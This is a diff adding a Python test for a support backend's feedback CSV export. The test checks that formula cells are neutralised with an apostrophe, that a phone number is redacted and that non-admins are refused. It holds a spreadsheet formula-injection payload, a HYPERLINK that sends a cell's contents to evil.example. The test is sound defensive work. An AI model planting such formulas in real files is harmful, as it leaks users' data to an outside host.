@@ -83,3 +83,26 @@ def test_feedback_errors_are_clear(backend):
     bad = httpx.post(f"{backend.url}/v1/feedback", headers=backend.headers, timeout=30,
                      json={"request_id": request_id, "rating": "meh"})
     assert bad.status_code == 400 and bad.json()["error"]["param"] == "rating"
+
+
+def test_feedback_csv_export_neutralises_formulas_and_redacts(backend):
+    import csv
+    import io
+
+    request_id = ask(backend, "=1+2 what is my order status?")["visiondesk"]["request_id"]
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    given = wait_for(lambda: (r := httpx.post(f"{backend.url}/v1/feedback", headers=backend.headers, timeout=30, json={
+        "request_id": request_id, "rating": "down", "comment": hostile,
+        "corrected_answer": "@SUM(1,1) call me on 13812345678"})).status_code != 404 and r)
+    assert given.status_code == 201, given.text
+    resp = get(backend, "/v1/feedback/export.csv", backend.admin_headers)
+    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
+    assert "attachment" in resp.headers["content-disposition"]
+    rows = list(csv.DictReader(io.StringIO(resp.text.lstrip("\ufeff"))))
+    row = next(r for r in rows if r["request_id"] == request_id)
+    assert row["comment"] == "'" + hostile  # kept, but a spreadsheet shows it as text
+    assert row["question"].startswith("'=1+2")
+    assert row["corrected_answer"].startswith("'@SUM") and "13812345678" not in row["corrected_answer"]
+    assert row["rating"] == "down"  # ordinary cells are untouched
+    # agents may not export; the route carries a role check
+    assert get(backend, "/v1/feedback/export.csv").status_code == 403
